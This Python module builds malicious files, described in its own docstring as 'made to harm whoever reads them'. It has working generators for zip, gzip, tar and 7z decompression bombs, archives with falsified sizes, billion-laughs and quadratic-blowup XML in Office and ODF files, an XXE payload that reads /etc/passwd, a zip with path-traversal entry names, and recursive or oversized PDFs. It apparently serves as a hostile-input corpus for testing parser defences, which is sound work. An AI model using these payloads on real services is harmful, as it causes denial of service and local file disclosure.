"""Files made to harm whoever reads them: each builder returns (name, bytes), small and quickly made."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

Bomb = tuple[str, bytes]
MIB = 1024 * 1024

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = "<!DOCTYPE b [<!ENTITY l0 'ha ha ha ha '>" + "".join(
    f"<!ENTITY l{level} '{f'&l{level - 1};' * 10}'>" for level in range(1, 12)
)
QUADRATIC = f"<!DOCTYPE b [<!ENTITY q '{'q' * 100_000}'>"
OUTSIDE = "<!DOCTYPE b [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'file:///etc/hosts'> %p;"


def zipped(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression, compresslevel=1) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def docx(body: str, declaration: str = "") -> bytes:
    document = f"{declaration}<w:document xmlns:w='{W}'><w:body>{body}</w:body></w:document>"
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})


def xlsx(rows: str, *, strings: str = "", declaration: str = "") -> bytes:
    sheet = f"{declaration}<worksheet xmlns='{S}'><sheetData>{rows}</sheetData></worksheet>"
    return zipped(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELATIONS.format(kind="officeDocument", target="xl/workbook.xml"),
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": RELATIONS.format(
                kind="worksheet", target="worksheets/sheet1.xml"
            ),
            "xl/worksheets/sheet1.xml": sheet,
            "xl/sharedStrings.xml": f"{declaration}<sst xmlns='{S}'>{strings}</sst>",
        }
    )


CONTENT_TYPES = (
    "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
    "<Default Extension='xml' ContentType='application/xml'/></Types>"
)
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    "<Relationship Id='rId1' Target='{target}' "
    "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}'/>"
    "</Relationships>"
)
WORKBOOK = (
    f"<workbook xmlns='{S}' "
    "xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'>"
    "<sheets><sheet name='S' sheetId='1' r:id='rId1'/></sheets></workbook>"
)


def overlapping_zip() -> Bomb:
    """Two thousand entries that all unpack the same bytes."""
    packed = zipped({"a.txt": b"0" * (4 * MIB)})
    directory = packed.index(b"PK\x01\x02")
    end = packed.index(b"PK\x05\x06")
    entry, count = packed[directory:end], 2_000
    tail = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, directory, 0
    )
    return "a.zip", packed[:directory] + entry * count + tail


def zip_of_zips() -> Bomb:
    """Sixteen zips of sixteen zips of sixteen files, as 42.zip: 256 GiB in all."""
    packed = zipped({f"{n}.txt": b"0" * (4 * MIB) for n in range(16)})
    for level in range(4):
        packed = zipped({f"{level}-{n}.zip": packed for n in range(16)})
    return "42.zip", packed


def deep_zip() -> Bomb:
    packed = zipped({"a.txt": "保密"})
    for _ in range(200):
        packed = zipped({"a.zip": packed}, zipfile.ZIP_STORED)
    return "deep.zip", packed


def zip_of_zeros() -> Bomb:
    return "zeros.zip", zipped({"zeros.txt": bytes(200 * MIB)})


def zip_that_lies() -> Bomb:
    """It declares a few bytes and unpacks to many."""
    packed = bytearray(zipped({"a.txt": bytes(200 * MIB)}))
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = packed.index(signature) + at
        packed[start : start + 4] = struct.pack("<L", 100)
    return "lies.zip", bytes(packed)


def zip_of_many() -> Bomb:
    return "many.zip", zipped({f"{n}": b"" for n in range(30_000)}, zipfile.ZIP_STORED)


def zip_that_climbs() -> Bomb:
    return "climbs.zip", zipped({"../../etc/passwd": "root", "/abs\x07\x1b[2J.txt": "text"})


def gzip_of_zeros() -> Bomb:
    """A gigabyte: the same member again and again."""
    return "zeros.log.gz", gzip.compress(bytes(16 * MIB), 1) * 64


def bzip2_of_zeros() -> Bomb:
    return "zeros.log.bz2", bz2.compress(bytes(16 * MIB), 1) * 128


def xz_of_zeros() -> Bomb:
    return "zeros.log.xz", lzma.compress(bytes(16 * MIB), preset=0) * 64


def gzip_in_gzip() -> Bomb:
    packed = b"text"
    for _ in range(300):
        packed = gzip.compress(packed)
    return "a.gz", packed


def tar_with_a_lying_size() -> Bomb:
    entry = tarfile.TarInfo("a.txt")
    entry.size = 8**10
    return "lies.tar", entry.tobuf(tarfile.GNU_FORMAT) + "保密\n".encode() * 100


def tar_of_many() -> Bomb:
    entry = tarfile.TarInfo("a.txt").tobuf()
    return "many.tgz", gzip.compress(entry * 300_000 + bytes(1024), 1)


def tar_with_holes() -> Bomb:
    """A sparse file (GNU) of eight gigabytes, of which no byte is there."""
    entry = tarfile.TarInfo("holes.txt")
    entry.type = tarfile.GNUTYPE_SPARSE
    raw = bytearray(entry.tobuf(tarfile.GNU_FORMAT))
    raw[483:495] = b"100000000000"
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw)
    return "holes.tar", bytes(raw) + bytes(1024)


def tar_of_long_names() -> Bomb:
    """Each long name announces another one."""
    entry = tarfile.TarInfo("././@LongLink")
    entry.type, entry.size = tarfile.GNUTYPE_LONGNAME, 1
    return "names.tar", (entry.tobuf(tarfile.GNU_FORMAT) + bytes(512)) * 20_000


def seven_zip(header: bytes, packed: bytes = b"") -> bytes:
    start = struct.pack("<QQL", len(packed), len(header), zlib.crc32(header))
    head = b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<L", zlib.crc32(start)) + start
    return head + packed + header


def seven_zip_of_a_giant() -> Bomb:
    """LZMA with a dictionary of four gigabytes, and as much to unpack."""
    number = b"\xf0" + struct.pack("<L", 0xFFFFFFFF)
    coder = b"\x23\x03\x01\x01\x05\x5d\xff\xff\xff\xff"
    streams = b"\x06\x00\x01\x09\x10\x00" + b"\x07\x0b\x01\x00\x01" + coder + b"\x0c" + number
    names = "a.txt\0".encode("utf-16-le")
    files = b"\x05\x01\x11" + bytes([len(names) + 1]) + b"\0" + names + b"\0"
    return "giant.7z", seven_zip(b"\x01\x04" + streams + b"\0\0" + files + b"\0", bytes(16))


def seven_zip_of_many() -> Bomb:
    return "many.7z", seven_zip(b"\x01\x05\xf0\xff\xff\xff\xff\x0e\x01\xff\0\0")


def seven_zip_in_circles() -> Bomb:
    """A header whose packed streams are coded by coders that wait for one another."""
    coder = b"\x01\x00"
    folder = b"\x02" + coder + coder + b"\x00\x01"
    streams = b"\x06\x00\x01\x09\x10\x00" + b"\x07\x0b\x01\x00" + folder + b"\x0c\x10\x10\0\0"
    return "circle.7z", seven_zip(b"\x17" + streams, bytes(16))


def laughing_docx() -> Bomb:
    return "a.docx", docx("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", LAUGHS + "]>")


def laughing_xlsx() -> Bomb:
    cell = "<row r='1'><c r='A1' t='inlineStr'><is><t>&l11;</t></is></c></row>"
    strings = "<si><t>&l11;</t></si>"
    return "a.xlsx", xlsx(cell, strings=strings, declaration=LAUGHS + "]>")


def laughing_odt() -> Bomb:
    space = "urn:oasis:names:tc:opendocument:xmlns:"
    content = (
        f"{LAUGHS}]><o:document-content xmlns:o='{space}office:1.0' xmlns:t='{space}text:1.0'>"
        "<o:body><t:p>&l11;</t:p></o:body></o:document-content>"
    )
    mimetype = "application/vnd.oasis.opendocument.text"
    return "a.odt", zipped({"mimetype": mimetype, "content.xml": content}, zipfile.ZIP_STORED)


def laughing_html() -> Bomb:
    return "a.xhtml", f"{LAUGHS}]><html><body>&l11;</body></html>".encode()


def quadratic_docx() -> Bomb:
    return "a.docx", docx(f"<w:p><w:r><w:t>{'&q;' * 20_000}</w:t></w:r></w:p>", QUADRATIC + "]>")


def prying_docx() -> Bomb:
    """Entities from files of the machine that reads it."""
    return "a.docx", docx("<w:p><w:r><w:t>&x;文字</w:t></w:r></w:p>", OUTSIDE + "]>")


def deep_docx() -> Bomb:
    return "a.docx", docx("<w:p>" * 200_000 + "</w:p>" * 200_000)


def endless_docx() -> Bomb:
    return "a.docx", docx("<w:p><w:r><w:t>文字文字文字文字</w:t></w:r></w:p>" * 2_000_000)


def swollen_docx() -> Bomb:
    return "a.docx", docx("<w:p><w:r><w:t>" + " " * (128 * MIB) + "</w:t></w:r></w:p>")


def workbook_of_a_million_cells() -> Bomb:
    rows = [
        f"<row r='{row}'>" + "".join(f"<c><v>{row * 10 + n}</v></c>" for n in range(10)) + "</row>"
        for row in range(1, 120_001)
    ]
    return "cells.xlsx", xlsx("".join(rows))


def workbook_with_a_far_cell() -> Bomb:
    return "far.xlsx", xlsx("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")


def sheet_that_repeats() -> Bomb:
    """Two cells of an Open Document sheet that claim to be a thousand billion."""
    space = "urn:oasis:names:tc:opendocument:xmlns:"
    content = (
        f"<o:document-content xmlns:o='{space}office:1.0' xmlns:t='{space}text:1.0' "
        f"xmlns:b='{space}table:1.0'><o:body><o:spreadsheet><b:table b:name='S'>"
        "<b:table-row b:number-rows-repeated='1048576'>"
        "<b:table-cell b:number-columns-repeated='1000000'><t:p>x<t:s t:c='2000000000'/></t:p>"
        "</b:table-cell></b:table-row></b:table></o:spreadsheet></o:body></o:document-content>"
    )
    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
    return "a.ods", zipped({"mimetype": mimetype, "content.xml": content}, zipfile.ZIP_STORED)


def deep_html() -> Bomb:
    return "a.html", b"<html><body>" + b"<div><b>" * 300_000 + "文字".encode()


def deep_json() -> Bomb:
    return "a.json", b'{"a":[' * 500_000


def deep_xml() -> Bomb:
    return "a.xml", b"<a>" * 500_000


def deep_rtf() -> Bomb:
    return "a.rtf", b"{\\rtf1 " + b"{\\b " * 500_000 + b"text"


def greedy_rtf() -> Bomb:
    return "a.rtf", b"{\\rtf1\\uc2000000000 " + b"\\u21327?\\bin9999999999 " * 20_000


def deep_mail() -> Bomb:
    mail = b"Subject: end\r\n\r\ntext"
    for _ in range(500):
        mail = b"Content-Type: message/rfc822\r\n\r\n" + mail
    return "deep.eml", mail


def mail_of_many_parts() -> Bomb:
    head = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    part = b"--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n"
    return "parts.eml", head + part * 60_000


def long_text() -> Bomb:
    return "long.log", "一行日志\n".encode() * (3 * MIB)


def pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]%s>>"


def pdf_of_many_pages() -> Bomb:
    """One page, three hundred thousand times."""
    kids = b"3 0 R " * 300_000
    pages = b"<</Type/Pages/Count 300000/Kids[%s]>>" % kids
    return "pages.pdf", pdf([_CATALOGUE, pages, _PAGE % b""])


def pdf_that_counts_pages() -> Bomb:
    pages = b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"
    return "count.pdf", pdf([_CATALOGUE, pages, _PAGE % b""])


def pdf_in_circles() -> Bomb:
    """A tree of pages that contains itself, and a form that draws itself."""
    form = stream(b"/F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 4 0 R")
    return "circle.pdf", pdf(
        [
            _CATALOGUE,
            b"<</Type/Pages/Count 3/Kids[3 0 R 2 0 R 2 0 R]>>",
            _PAGE % b"/Contents 5 0 R/Resources 4 0 R",
            b"<</XObject<</F 6 0 R>>>>",
            stream(b"/F Do /F Do"),
            form,
        ]
    )


def pdf_of_forms() -> Bomb:
    """Thirty forms, each drawing the next one twice: a billion times the last."""
    objects = [
        _CATALOGUE,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        _PAGE % b"/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>",
        stream(b"/F Do"),
    ]
    for number in range(5, 35):
        inner = b"/Resources<</XObject<</F %d 0 R>>>>" % (number + 1)
        objects.append(stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + inner))
    objects.append(stream(b"0 0 m", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))
    return "forms.pdf", pdf(objects)


def pdf_of_zeros() -> Bomb:
    """A page whose content is a quarter of a gigabyte of blanks, deflated twice."""
    blanks = zlib.compressobj(9)
    once = b"".join(blanks.compress(b" " * (16 * MIB)) for _ in range(16)) + blanks.flush()
    twice = zlib.compress(once, 9)
    content = stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return "zeros.pdf", pdf([_CATALOGUE, pages, _PAGE % b"/Contents 4 0 R", content])


def pdf_of_a_giant_image() -> Bomb:
    entries = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    image = stream(zlib.compress(bytes(16 * MIB), 9), entries)
    page = _PAGE % b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    pages = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return "image.pdf", pdf([_CATALOGUE, pages, page, stream(b"9 0 0 9 0 0 cm /I Do"), image])


def pdf_of_arrays() -> Bomb:
    return "arrays.pdf", pdf([b"<</Type/Catalog/Pages " + b"[" * 500_000, b"null"])


BOMBS: list[Callable[[], Bomb]] = [
    overlapping_zip,
    zip_of_zips,
    deep_zip,
    zip_of_zeros,
    zip_that_lies,
    zip_of_many,
    zip_that_climbs,
    gzip_of_zeros,
    bzip2_of_zeros,
    xz_of_zeros,
    gzip_in_gzip,
    tar_with_a_lying_size,
    tar_of_many,
    tar_with_holes,
    tar_of_long_names,
    seven_zip_of_a_giant,
    seven_zip_of_many,
    seven_zip_in_circles,
    laughing_docx,
    laughing_xlsx,
    laughing_odt,
    laughing_html,
    quadratic_docx,
    prying_docx,
    deep_docx,
    endless_docx,
    swollen_docx,
    workbook_of_a_million_cells,
    workbook_with_a_far_cell,
    sheet_that_repeats,
    deep_html,
    deep_json,
    deep_xml,
    deep_rtf,
    greedy_rtf,
    deep_mail,
    mail_of_many_parts,
    long_text,
    pdf_of_many_pages,
    pdf_that_counts_pages,
    pdf_in_circles,
    pdf_of_forms,
    pdf_of_zeros,
    pdf_of_a_giant_image,
    pdf_of_arrays,
]
